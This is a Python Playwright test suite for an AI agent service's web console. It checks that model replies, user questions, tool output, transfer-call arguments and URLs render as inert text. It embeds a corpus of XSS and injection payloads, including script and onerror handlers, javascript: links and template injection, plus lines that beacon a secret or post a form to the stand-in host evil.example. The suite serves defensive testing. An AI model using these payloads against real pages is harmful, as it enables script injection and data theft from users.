"""Words that would be scripts, pictures and links if any page took them for markup; none does, anywhere."""

import json

import pytest
from playwright.sync_api import expect

from tests.browser.visit import ISSUING
from tests.harness.model_api import BEGIN, BLOCK, WORDS, ModelApi
from tests.harness.paying import install
from tests.harness.service import Service

CORPUS = (
    "<script>window.ran = 1</script>",
    "<img src=x onerror=window.ran=1>",
    '"><svg/onload=window.ran=1>',
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href='javascript:window.ran=1'>click</a>",
    "[click](javascript:window.ran=1)",
    "![pixel](https://evil.example/pixel.png?secret=1)",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "</p></div></main><script>window.ran=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<template><script>window.ran=1</script></template>",
    "{{ 7*7 }} ${7*7} {% raw %}",
    "<details open ontoggle=window.ran=1>",
    "<input autofocus onfocus=window.ran=1>",
    "javascript:window.ran=1//",
    "\u202e<script>window.ran=1</script>\u2066",
    "```html\n<script>window.ran=1</script>\n```",
    "<object data='data:text/html,<script>parent.ran=1</script>'></object>",
)
ALL = "\n\n".join(CORPUS)
TOLD = ".prose p, .prose pre, .question p, .approval pre, .step *, #title, .name, main code, dialog h2"
"""Where the page shows what others wrote: as text, maybe kept to its own direction, and nothing else."""
FOREIGN = (
    "img:not(.brand *), iframe, script, style, link, base, meta, object, embed, form[action^='http'], "
    "a[href^='javascript'], a[href^='http']:not(.id)"
)
"""What no page of ours has in its body."""
LOOK = f"""() => [
    window.ran ?? null,
    [...document.querySelectorAll("{TOLD}")].filter((each) => each.querySelector(":not(bdi)")).length,
    document.body.querySelectorAll("{FOREIGN}").length,
]"""
LOUD = '''
import os
from pathlib import Path

from service.tools import tool


@tool()
async def shout() -> str:
    """Say it."""
    return Path(os.environ["LOUD"]).read_text()
'''
CLOSE = (
    {"type": "content_block_stop", "index": 0},
    {
        "type": "message_delta",
        "delta": {"stop_reason": "end_turn", "stop_sequence": None},
        "usage": {"output_tokens": 9},
    },
    {"type": "message_stop"},
)


def spoken(text):
    """What the model says is this."""
    return (BEGIN, BLOCK, WORDS | {"delta": {"type": "text_delta", "text": text}}, *CLOSE)


def called(arguments):
    """What the model wants is a transfer with these arguments."""
    block = {"type": "tool_use", "id": "toolu_1", "name": "transfer", "input": {}}
    delta = {"type": "input_json_delta", "partial_json": json.dumps(arguments)}
    stop = CLOSE[1] | {"delta": {"stop_reason": "tool_use", "stop_sequence": None}}
    return (BEGIN, BLOCK | {"content_block": block}, WORDS | {"delta": delta}, CLOSE[0], stop, CLOSE[2])


@pytest.fixture
def hostile(tmp_path):
    """A service whose model says what it is told to."""
    with ModelApi() as model:
        settings = ISSUING | install(tmp_path / "site") | model.settings | {"AGENT_MAX_TOOL_ROUNDS": "1"}
        (tmp_path / "cwd").mkdir()
        with Service(tmp_path / "cwd", settings) as service:
            yield model, service


def harmless(page):
    """Nothing ran, and nothing of it became an element."""
    page.wait_for_timeout(200)
    assert page.evaluate(LOOK) == [None, 0, 0]


def test_what_a_model_says_is_text(visiting, hostile):
    model, service = hostile
    model.events = spoken(ALL)
    with visiting("hears", service=service) as visit:
        page = visit.open()
        visit.ask("Say it")
        visit.answered()
        shown = page.locator(".prose").inner_text()
        for each in CORPUS:
            if not each.startswith("```"):
                assert each in shown
        expect(page.locator(".prose pre")).to_have_text("<script>window.ran=1</script>\n")
        harmless(page)
        page.reload(wait_until="networkidle")
        assert CORPUS[0] in page.locator(".prose").inner_text()
        harmless(page)


def test_what_a_person_asks_and_calls_a_conversation_is_text(visiting):
    with visiting("asks") as visit:
        page = visit.open()
        visit.ask(ALL)
        visit.answered()
        assert CORPUS[1] in page.locator(".question").inner_text()
        harmless(page)
        page.get_by_role("button", name="Rename").click()
        page.get_by_label("Title").fill(CORPUS[2])
        page.get_by_label("Title").press("Enter")
        expect(page.locator("#title")).to_have_text(CORPUS[2])
        page.get_by_role("button", name="Delete").click()
        expect(page.get_by_role("dialog")).to_contain_text(CORPUS[2])
        page.get_by_role("button", name="Cancel").click()
        harmless(page)
        page.reload(wait_until="networkidle")
        expect(page.locator(".conversations .name")).to_have_text(CORPUS[2])
        assert page.locator(".conversations :is(svg, img, script)").count() == 0
        harmless(page)


def test_what_is_told_of_a_query_is_text(visiting):
    with visiting("<svg/onload=window.ran=1>") as visit:
        page = visit.open()
        visit.ask(ALL)
        visit.answered()
        page.get_by_role("link", name="Details").click()
        expect(page.locator("pre.question")).to_contain_text(CORPUS[1])
        expect(page.locator(".line")).to_contain_text("<script>window.ran = 1")
        harmless(page)
        page.goto("/console/queries", wait_until="networkidle")
        expect(page.locator(".list a")).to_contain_text(CORPUS[0])
        harmless(page)
        page.get_by_label("Turn, trace or request id").fill(CORPUS[2])
        visit.expected = frozenset({404})
        page.get_by_role("button", name="Find").click()
        expect(page.locator("main")).to_contain_text("There is no")
        harmless(page)


def test_what_a_call_would_be_run_with_is_text(visiting, hostile):
    model, service = hostile
    model.events = called({"amount": 1, "to": ALL})
    with visiting("pays", service=service) as visit:
        page = visit.open()
        visit.ask("Pay")
        card = page.get_by_role("region", name="Approval of transfer")
        expect(card.locator("pre")).to_contain_text("<img src=x onerror=window.ran=1>")
        harmless(page)
        card.get_by_role("button", name="Deny").click()
        expect(card).to_contain_text("Denied.")
        page.get_by_role("link", name="Details").last.click()
        expect(page.locator(".call pre")).to_contain_text("<img src=x onerror=window.ran=1>")
        harmless(page)


@pytest.fixture
def loud(tmp_path):
    """A service with a tool that gives what a file says; the file."""
    info = tmp_path / "site" / "loud-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: loud\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text("[parley.tools]\nshout = loud:shout\n")
    (tmp_path / "site" / "loud.py").write_text(LOUD)
    (tmp_path / "cwd").mkdir()
    words = tmp_path / "words"
    settings = {"PYTHONPATH": str(tmp_path / "site"), "AGENT_TOOLS": "shout", "LOUD": str(words)}
    with Service(tmp_path / "cwd", ISSUING | {"AGENT_RATE_LIMIT_REQUESTS": "100"} | settings) as service:
        yield service, words


def test_what_a_tool_gives_is_text(visiting, loud):
    service, words = loud
    with visiting("listens", "LISTENER", service=service) as visit:
        page = visit.open()
        for number, each in enumerate(CORPUS):
            words.write_text(each)
            visit.ask("[sim:tool] shout")
            visit.answered(number + 1)
            if not each.startswith("```"):
                expect(page.locator(".turn").last.locator(".prose")).to_contain_text(each)
            harmless(page)


def test_what_is_wrong_with_an_address_is_text(visiting):
    with visiting("wanders", expected=[400, 404]) as visit:
        page = visit.open("/console/?%3Cscript%3Ewindow.ran=1%3C/script%3E=1")
        expect(page.locator("main code")).to_have_text("<script>window.ran")
        harmless(page)
        page.goto("/console/%3Cimg%20src=x%20onerror=window.ran=1%3E")
        harmless(page)
        page.goto("/console/chat#%3Cimg%20src=x%20onerror=window.ran=1%3E")
        expect(page.get_by_label("Your question")).to_be_visible()
        harmless(page)


def test_no_script_of_ours_can_make_markup(visiting):
    with visiting("tries") as visit:
        page = visit.open()
        tried = page.evaluate(
            """() => ["innerHTML", "outerHTML"].map((name) => {
                try { document.querySelector("#said")[name] = "<b>x</b>"; return "made"; }
                catch (error) { return error.name; }
            })"""
        )
        assert tried == ["TypeError", "TypeError"]
        page.wait_for_timeout(500)
        assert len([each for each in visit.said if "require-trusted-types-for" in each]) >= 2
        visit.said.clear()
